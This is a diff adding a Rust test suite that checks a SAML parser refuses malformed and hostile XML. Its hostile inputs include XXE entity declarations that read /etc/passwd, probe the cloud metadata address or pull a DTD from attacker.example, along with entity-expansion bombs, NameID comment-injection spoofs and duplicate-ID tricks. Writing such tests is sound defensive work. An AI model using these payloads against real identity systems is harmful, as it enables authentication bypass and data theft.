@@ -1,0 +1,249 @@
+//! `security-catalogue.md` part A: the bytes, before anybody asks who signed them.
+
+use std::time::{Duration, Instant};
+
+use stoa_saml::{RefusalCode as R, decode_post_binding};
+
+use crate::fixture::*;
+
+/// Puts text into the signed NameID.
+fn named(value: &str) -> String {
+    sign(&template().to_xml().replace(&format!(">{PERSON}</saml:NameID"), &format!(">{value}</saml:NameID")), "R-1")
+}
+
+/// Answers within the time, on a thread with a small stack.
+#[track_caller]
+fn refused_quickly(xml: String, code: R) {
+    let answer = std::thread::Builder::new().stack_size(256 * 1024).spawn(move || {
+        let start = Instant::now();
+        let refusal = check(xml).expect_err("accepted");
+        (refusal, start.elapsed())
+    });
+    let (refusal, elapsed) = answer.unwrap().join().unwrap();
+    assert_eq!(refusal.code, code, "{refusal}");
+    // The budget is 50 ms of an optimised build; this only tells linear from quadratic.
+    assert!(elapsed < Duration::from_secs(1), "{elapsed:?}");
+}
+
+#[test]
+fn c001_doctype() {
+    refused(format!("<!DOCTYPE samlp:Response>{}", good()), R::Doctype);
+    refused(good().replace("<saml:Assertion", "<!DOCTYPE x><saml:Assertion"), R::Doctype);
+}
+
+/// Entities need a declaration, so all of these fail at the DOCTYPE, and nothing is opened.
+#[test]
+fn c002_c003_c004_c005_c006_entities() {
+    for declaration in [
+        "<!ENTITY e \"x\">",
+        "<!ENTITY e SYSTEM \"file:///etc/passwd\">",
+        "<!ENTITY e SYSTEM \"http://169.254.169.254/\">",
+        "<!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p;",
+        "<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY e \"&b;&b;&b;&b;\">",
+    ] {
+        refused_quickly(format!("<!DOCTYPE r [{declaration}]>{}", good().replace(PERSON, "&e;")), R::Doctype);
+    }
+    refused(good().replace(PERSON, "&e;"), R::XmlMalformed);
+}
+
+#[test]
+fn c007_depth() {
+    let deep = |depth| format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
+    refused_quickly(deep(10_000), R::TooDeep);
+    refused_quickly(deep(65), R::TooDeep);
+    refused_quickly(deep(64), R::NotAResponse);
+}
+
+#[test]
+fn c008_attributes_and_declarations() {
+    let attributes = |count| (0..count).map(|n| format!(" a{n}=''")).collect::<String>();
+    let declarations = |count| (0..count).map(|n| format!(" xmlns:a{n}='urn:{n}'")).collect::<String>();
+    refused_quickly(format!("<a{}/>", attributes(50_000)), R::TooManyAttributes);
+    refused_quickly(format!("<a{}/>", attributes(65)), R::TooManyAttributes);
+    refused_quickly(format!("<a{}/>", attributes(64)), R::NotAResponse);
+    refused_quickly(format!("<a{}/>", declarations(20_000)), R::TooManyAttributes);
+    let nested: String =
+        (0..30).map(|n| format!("<a xmlns:a{n}='urn:1' xmlns:b{n}='urn:2' xmlns:c{n}='urn:3'>")).collect();
+    refused_quickly(format!("{nested}{}", "</a>".repeat(30)), R::TooManyNamespaces);
+}
+
+/// What is within every bound is still quick.
+#[test]
+fn c008_at_the_bounds() {
+    let names: String = (0..64).map(|n| format!(" xmlns:a{n}='urn:{n}'")).collect();
+    let child = format!("<b{}/>", (0..63).map(|n| format!(" a{n}:x=''")).collect::<String>());
+    let children = child.repeat((500 * 1024) / child.len());
+    refused_quickly(format!("<a{names}>{children}</a>"), R::NotAResponse);
+    refused_quickly(format!("<a>{}</a>", "<!---->".repeat(30_000)), R::TooMuchMarkup);
+    refused_quickly(format!("<a>{}</a>", "<b/>".repeat(30_000)), R::TooMuchMarkup);
+    refused_quickly(format!("<a>{}</a>", "=".repeat(500_000)), R::NotAResponse);
+    refused_quickly(format!("<a>{}</a>", "<b ID=''/>".repeat(19_000)), R::NotAResponse);
+    refused_quickly("<".repeat(500_000), R::XmlMalformed);
+    refused_quickly("<a b='".repeat(80_000), R::TooManyAttributes);
+}
+
+#[test]
+fn c009_size() {
+    refused(vec![b' '; 512 * 1024 + 1], R::TooLarge);
+    assert_eq!(decode_post_binding(&"A".repeat(800_000)).unwrap_err().code, R::TooLarge);
+    assert_eq!(decode_post_binding(&"QUJD".repeat(100_000)).unwrap().len(), 300_000);
+}
+
+#[test]
+fn c011_trailing_markup() {
+    for trailing in ["<a/>", "text", "<samlp:Response/>"] {
+        refused(format!("{}{trailing}", good()), R::XmlMalformed);
+    }
+}
+
+#[test]
+fn c012_encodings() {
+    let xml = good();
+    for declaration in [
+        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>",
+        "<?xml version=\"1.0\" encoding=\"UTF-7\"?>",
+        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>",
+        "<?xml version=\"1.1\"?>",
+        "<?xml encoding=\"UTF-8\"?>",
+        "<?xml version=\"1.0\" standalone=\"maybe\"?>",
+        "<?xml version=\"1.0\" version=\"1.0\"?>",
+        "<?xml version=\"1.0\"",
+    ] {
+        refused(format!("{declaration}{xml}"), R::XmlDeclaration);
+    }
+    refused(format!(" <?xml version=\"1.0\"?>{xml}"), R::ProcessingInstruction);
+    let utf16: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    assert!(check(&utf16).is_err());
+    refused([&[0xff, 0xfe], utf16.as_slice()].concat(), R::NotUtf8);
+    refused(xml.replace("<samlp:Status>", "\u{feff}<samlp:Status>"), R::ElementUnexpected);
+}
+
+#[test]
+fn c013_characters() {
+    for bad in ["\0", "\u{1}", "\u{b}", "&#0;", "&#1;", "&#xD800;", "&#x110000;", "&#xFFFE;", "\u{ffff}", "&#;", "&#x;"]
+    {
+        refused(good().replace(PERSON, bad), R::XmlMalformed);
+    }
+    let mut bytes = good().into_bytes();
+    bytes.extend([0xc0, 0x80]);
+    refused(bytes, R::NotUtf8);
+}
+
+#[test]
+fn c014_base64() {
+    assert_eq!(decode_post_binding("PGE+\r\nPC9h\nPg==\r\n").unwrap(), b"<a></a>");
+    for bad in
+        ["PGE-PC9hPg==", "PGE_", "PGE+ PC9hPg==", "PG==E+PC9hPg==", "PGE+PC9hPg", "PGE+PC9hPg=", "PGE+!", "=", "QR=="]
+    {
+        assert_eq!(decode_post_binding(bad).unwrap_err().code, R::Base64Invalid, "{bad}");
+    }
+    let twice = decode_post_binding("UEdFK1BDOWhQZz09").unwrap();
+    refused(twice, R::XmlMalformed);
+}
+
+#[test]
+fn c015_c016_c018_nothing_but_text_in_values() {
+    refused(named("admin@acme.example<!---->.evil.example"), R::TextNotPlain);
+    refused(named("<!---->"), R::TextNotPlain);
+    refused(named("admin@acme.example<?x y?>.evil.example"), R::ProcessingInstruction);
+    refused(named("admin@acme.example<x/>.evil.example"), R::TextNotPlain);
+    // Put in after signing, a comment changes no digest. It must still not change what is read.
+    refused(good().replace("acme.example</saml:NameID", "acme<!---->.example</saml:NameID"), R::TextNotPlain);
+    for value in [IDP, SP, PERSON] {
+        let (head, tail) = value.split_at(9);
+        refused(good().replace(&format!(">{value}<"), &format!(">{head}<!-- -->{tail}<")), R::TextNotPlain);
+    }
+}
+
+#[test]
+fn c019_duplicate_attributes() {
+    refused(good().replace(" Version=", " ID=\"x\" Version="), R::XmlMalformed);
+    refused(
+        good().replace("<saml:Subject>", "<saml:Subject xmlns:a=\"urn:a\" xmlns:b=\"urn:a\" a:x=\"\" b:x=\"\">"),
+        R::XmlMalformed,
+    );
+    refused(good().replace("<samlp:Status>", "<samlp:Status xmlns=\"urn:a\" xmlns=\"urn:b\">"), R::NamespaceInvalid);
+}
+
+#[test]
+fn c020_prefixes() {
+    for (tag, code) in [
+        ("<:x/>", R::NamespaceInvalid),
+        ("<x:/>", R::NamespaceInvalid),
+        ("<saml:x:y/>", R::NamespaceInvalid),
+        ("<x :a=\"\"/>", R::NamespaceInvalid),
+        ("<x xmlns:=\"\"/>", R::NamespaceInvalid),
+        ("<x xmlns:a=\"\"/>", R::NamespaceInvalid),
+        ("<x xmlns:xmlns=\"urn:x\"/>", R::NamespaceInvalid),
+        ("<x xmlns:xml=\"urn:x\"/>", R::XmlMalformed),
+        ("<x xmlns:p=\"http://www.w3.org/XML/1998/namespace\"/>", R::XmlMalformed),
+        ("<x xmlns:p=\"http://www.w3.org/2000/xmlns/\"/>", R::XmlMalformed),
+        ("<undeclared:x/>", R::XmlMalformed),
+        ("<x undeclared:a=\"\"/>", R::XmlMalformed),
+        // The parser would take the last two for default namespace declarations.
+        ("<x saml:xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"/>", R::NamespaceInvalid),
+        ("<x undeclared:xmlns=\"urn:x\"/>", R::NamespaceInvalid),
+    ] {
+        refused(good().replace("<saml:Subject>", &format!("<saml:Subject>{tag}")), code);
+    }
+}
+
+#[test]
+fn c021_rival_identifiers() {
+    for rival in [
+        "Id=\"A-1\"",
+        "id=\"A-1\"",
+        "xml:id=\"A-1\"",
+        "AssertionID=\"A-1\"",
+        "wsu:Id=\"R-1\" xmlns:wsu=\"urn:wsu\"",
+        "x:ID=\"A-1\" xmlns:x=\"urn:x\"",
+    ] {
+        let xml = template().to_xml().replace("<saml:Subject>", &format!("<saml:Subject {rival}>"));
+        refused(sign(&xml, "R-1"), R::IdRepeated);
+        // The one who repeats its own identifier in another spelling is no better.
+        let xml = template().to_xml().replace("ID=\"A-1\"", &format!("ID=\"A-1\" {rival}"));
+        refused(sign(&xml, "R-1"), R::IdRepeated);
+    }
+}
+
+#[test]
+fn c022_other_namespaces() {
+    let assertion = "urn:oasis:names:tc:SAML:2.0:assertion";
+    refused(
+        sign(&template().to_xml().replace(assertion, "urn:oasis:names:tc:SAML:1.0:assertion"), "R-1"),
+        R::ElementUnexpected,
+    );
+    refused(sign(&template().to_xml().replace("SAML:2.0:protocol", "SAML:1.1:protocol"), "R-1"), R::NotAResponse);
+    let xml = template()
+        .to_xml()
+        .replace("<saml:Subject>", "<Subject xmlns=\"urn:x\">")
+        .replace("</saml:Subject>", "</Subject>");
+    refused(sign(&xml, "R-1"), R::ElementUnexpected);
+}
+
+/// An empty or broken message is the sender's fault, and no crash.
+#[test]
+fn c027_crash_inputs() {
+    for (xml, code) in [
+        ("", R::XmlMalformed),
+        (" ", R::XmlMalformed),
+        ("<", R::XmlMalformed),
+        ("<a", R::XmlMalformed),
+        ("</a>", R::XmlMalformed),
+        ("<a></b>", R::XmlMalformed),
+        ("<!--", R::XmlMalformed),
+        ("<![CDATA[", R::XmlMalformed),
+        ("<samlp:Response/>", R::XmlMalformed),
+        ("<Response xmlns=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>", R::AttributeMissing),
+    ] {
+        refused(xml, code);
+    }
+    refused(good().replace("<ds:SignedInfo", "<ds:X").replace("</ds:SignedInfo", "</ds:X"), R::SignatureMalformed);
+    let (before, rest) = {
+        let xml = good();
+        let at = xml.find("<ds:SignedInfo").unwrap();
+        (xml[..at].to_owned(), xml)
+    };
+    let after = &rest[rest.find("</ds:Signature>").unwrap()..];
+    refused(format!("{before}{after}"), R::SignatureMalformed);
+}
